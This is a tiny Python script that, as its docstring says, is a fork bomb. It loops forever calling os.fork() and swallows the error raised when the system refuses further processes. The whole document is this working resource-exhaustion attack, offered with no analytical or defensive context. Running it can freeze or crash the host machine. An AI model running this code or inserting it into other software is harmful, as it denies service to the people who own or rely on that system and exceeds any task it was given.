"""Starts copies of itself for ever, and goes on when the system says no."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
